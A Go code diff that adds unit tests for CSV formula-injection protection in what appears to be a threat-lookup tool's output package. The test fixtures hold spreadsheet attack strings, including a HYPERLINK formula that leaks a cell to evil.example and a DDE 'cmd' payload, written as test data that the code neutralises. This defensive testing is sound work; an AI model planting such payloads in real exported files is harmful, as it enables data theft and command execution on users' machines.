@@ -3,6 +3,7 @@ package output
 import (
 	"bytes"
 	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -146,6 +147,75 @@ func TestCSVWritesTextAsText(t *testing.T) {
 	} {
 		if got[col] != want {
 			t.Errorf("%s = %q, want %q", col, got[col], want)
+		}
+	}
+}
+
+// TestCSVNeutralisesFormulas: an input, VirusTotal's texts and fields that a
+// spreadsheet would run as formulas (OWASP's CSV Injection) are written as text, after
+// a single quote; numbers, negative ones too, stay numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	env := &command.Envelope{Command: "lookup", ReturnData: command.Successful,
+		ContextData: []command.ContextEntry{{Input: `=HYPERLINK("http://evil.example/?leak="&A2,"open")`, Status: "ok", Type: "domain",
+			ID: "evil.example", RiskLevel: "Low", RiskLevelCode: 3, RiskReason: "-2+3+cmd|' /C calc'!A0",
+			Fields: command.JSONFields{
+				"title":      "@SUM(1)",
+				"whois":      "\t=1+1",
+				"registrar":  "\r+1",
+				"comment":    "a = b, not at the start",
+				"reputation": int64(-1),
+				"score":      -2.5,
+				"tiny":       -3e-7,
+				"as_text":    "-17",
+				"tags":       []string{"=1"},
+			}}},
+		Skipped: []command.SkippedInput{{Input: "@evil", Type: "domain", Reason: "+reason"}},
+	}
+	var b bytes.Buffer
+	if err := CSV(&b, env); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for i, col := range rows[0] {
+		got[col] = rows[1][i]
+	}
+	for col, want := range map[string]string{
+		"input":           `'=HYPERLINK("http://evil.example/?leak="&A2,"open")`,
+		"risk_reason":     `'-2+3+cmd|' /C calc'!A0`,
+		"risk_level_code": "3",
+		"title":           "'@SUM(1)",
+		"whois":           `'\t=1+1`,
+		"registrar":       `'\r+1`,
+		"comment":         "a = b, not at the start",
+		"reputation":      "-1",
+		"score":           "-2.5",
+		"tiny":            "-3e-07",
+		"as_text":         "-17",
+		"tags":            `["=1"]`,
+	} {
+		if got[col] != want {
+			t.Errorf("%s = %q, want %q", col, got[col], want)
+		}
+	}
+	reason := slices.Index(rows[0], skipReasonColumn)
+	if len(rows) != 3 || rows[2][0] != "'@evil" || reason < 0 || rows[2][reason] != "'+reason" {
+		t.Errorf("skipped row = %q", rows[len(rows)-1])
+	}
+}
+
+func TestCSVCellNumbers(t *testing.T) {
+	for in, want := range map[string]string{
+		"-1": "-1", "+1": "+1", "-1.5": "-1.5", "-.5": "-.5", "-5.": "-5.", "-1e+06": "-1e+06", "-1E9": "-1E9",
+		"-": "-", "": "", "0": "0",
+		"+": "'+", "--1": "'--1", "-1e": "'-1e", "-1e+": "'-1e+", "-1.2.3": "'-1.2.3", "-.": "'-.", "-1+1": "'-1+1",
+		"-Inf": "'-Inf", "-0x10": "'-0x10", "-1 ": "'-1 ", "=1": "'=1", "@x": "'@x", "\t1": `'\t1`,
+	} {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
 		}
 	}
 }
